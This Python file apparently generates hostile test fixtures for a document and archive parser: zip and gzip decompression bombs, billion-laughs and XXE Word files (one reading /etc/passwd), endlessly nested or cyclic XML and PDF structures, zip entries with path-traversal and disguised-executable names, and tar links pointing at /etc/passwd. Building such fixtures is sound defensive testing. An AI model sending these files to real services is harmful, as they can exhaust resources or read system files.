# Files made to hurt whoever opens them: archives and documents that unfold without end, nest without end, name places outside,
# or turn in a ring. Each is small; what it would become is never made here either: one packed piece is repeated.
# SPDX-License-Identifier: Apache-2.0
import io
import struct
import tarfile
import zipfile
import zlib

from samples_cfb import compound
from samples_docx import W, document, paragraph, relations, zipped

PIECE = 64 << 20


def packed(times, octet=b"\0"):
    """`times` pieces of 64 MiB of one octet, deflated; every piece but the last is the same bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(octet * PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * times + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def raw_zip(entries):
    """entries: (name, octets as stored, method, size it says it becomes)."""
    out, table = bytearray(), bytearray()
    for name, data, method, size in entries:
        raw = name if isinstance(name, bytes) else name.encode()
        flags = 0 if isinstance(name, bytes) else 0x800
        fields = struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 0x5121, zlib.crc32(data) if method == 0 else 0, len(data), size, len(raw), 0)
        table += b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + raw
        out += b"PK\3\4" + fields + raw + data
    count = min(len(entries), 0xFFFF)
    return bytes(out + table + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(table), len(out), 0))


def nested():
    inner = raw_zip([("0.bin", packed(1), 8, PIECE)])
    for level in range(4):
        again = io.BytesIO()
        with zipfile.ZipFile(again, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
            for i in range(16):
                z.writestr(f"{level}{i:x}.zip", inner)
        inner = again.getvalue()
    return inner


def docx(body, more=None):
    return zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": relations([("rId1", "officeDocument", "word/document.xml", "")]),
                   "word/document.xml": body, **(more or {})})


def lol():
    names = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return docx(f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">{names}]><w:document xmlns:w="{W}"><w:body>{paragraph("&l9;")}</w:body></w:document>')


def xxe(where):
    return docx(f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "{where}">]><w:document xmlns:w="{W}"><w:body>{paragraph("&x;")}</w:body></w:document>')


def big_xml():
    begin = f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>'.encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(begin) + packer.flush(zlib.Z_FULL_FLUSH)
    return raw_zip([("[Content_Types].xml", b"<Types/>", 0, 8), ("word/document.xml", head + packed(2, b"a"), 8, len(begin) + 2 * PIECE)])


def xlsx(rows, strings="", head=""):
    s = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": relations([("rId1", "officeDocument", "xl/workbook.xml", "")]),
                   "xl/workbook.xml": f'<workbook {s} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" '
                                      'sheetId="1" r:id="rId1"/></sheets></workbook>',
                   "xl/_rels/workbook.xml.rels": relations([("rId1", "worksheet", "worksheets/sheet1.xml", ""), ("rId2", "sharedStrings", "sharedStrings.xml", "")]),
                   "xl/sharedStrings.xml": f"{head}<sst {s}>{strings}</sst>", "xl/worksheets/sheet1.xml": f"<worksheet {s}><sheetData>{rows}</sheetData></worksheet>"})


def ods():
    """A cell that says it stands there a thousand million times."""
    return zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml":
                   '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table='
                   '"urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
                   '<office:spreadsheet><table:table table:name="a"><table:table-row table:number-rows-repeated="1000000"><table:table-cell '
                   'table:number-columns-repeated="1000000"><text:p>信用</text:p></table:table-cell></table:table-row></table:table>'
                   "</office:spreadsheet></office:body></office:document-content>"})


def pdf(objects):
    out = b"%PDF-1.4\n"
    for number, body in enumerate(objects, 1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(objects) + 1)


def pdf_stream():
    data = b"\x78\xda" + packed(16, b" ")
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R>>",
                b"<</Length %d/Filter/FlateDecode>>stream\n" % len(data) + data + b"\nendstream"])


def pdf_ring():
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 500000>>"])


def png(side):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    pieces = side * (side // 8 + 1) // PIECE + 1
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)) +
            chunk(b"IDAT", b"\x78\xda" + packed(pieces)) + chunk(b"IEND", b""))


NAMES = ["../../x.txt", "/etc/pwn", "..\\..\\y.txt", "C:\\windows\\z.txt", "总结\u202excod.exe", "总结.docx          .exe", "照片.jpg.scr", "总结.pdf.lnk", "说明.txt"]


def names():
    return raw_zip([(name, b"x", 0, 1) for name in NAMES] + [("单位名称.txt".encode("gbk"), b"x", 0, 1), ("生僻龑.txt".encode("gb18030"), b"x", 0, 1)])


def links():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, kind in (("总结.txt", tarfile.SYMTYPE), ("简讯.txt", tarfile.LNKTYPE), ("设备", tarfile.CHRTYPE), ("管道", tarfile.FIFOTYPE)):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            tar.addfile(info)
        info = tarfile.TarInfo("说明.txt")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    return out.getvalue()


def gzip_of(raw):
    return b"\x1f\x8b\x08\0\0\0\0\0\0\3" + raw + b"\0" * 8


def make(folder, known):
    def add(name, octets):
        with open(folder / name, "wb") as f:
            f.write(octets)
    add("nested42.zip", nested())
    add("flat4g.zip", raw_zip([("0.bin", packed(63), 8, 63 * PIECE)]))
    add("flat4g-lying.zip", raw_zip([("0.bin", packed(63), 8, 1 << 20)]))
    add("many.zip", raw_zip([(f"{i}.txt", b"x", 0, 1) for i in range(65_000)]))
    add("bomb.gz", gzip_of(packed(16, b"a")))
    add("bigxml.docx", big_xml())
    add("lol.docx", lol())
    add("xxe.docx", xxe("file:///etc/passwd"))
    add("xxe-net.docx", xxe("http://127.0.0.1:9/x"))
    add("deep.docx", docx(f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>' + "<w:p>" * 200_000 + "</w:p>" * 200_000 + "</w:body></w:document>"))
    add("deep.xml", (b'<?xml version="1.0"?>' + b"<a>" * 200_000 + b"</a>" * 200_000))
    cell = '<c t="s"><v>0</v></c>'
    add("strings.xlsx", xlsx("<row>" + cell * 100_000 + "</row>", "<si><t>" + "信" * 1_000_000 + "</t></si>"))
    add("repeated.ods", ods())
    add("braces.rtf", b"{\\rtf1" + b"{" * 1_000_000)
    add("bin.rtf", b"{\\rtf1 abc\\bin90000000000000 x}")
    add("stream.pdf", pdf_stream())
    add("ring.pdf", pdf_ring())
    add("huge.png", png(60_000))
    add("names.zip", names())
    add("links.tar.gz", links())
    add("macros.docm", docx(document(paragraph(known.TITLE)), {"word/vbaProject.bin": compound({"VBA": {"dir": b"x"}})}))
    add("macros.doc", compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 600, "Macros": {"VBA": {"dir": b"x"}}}))
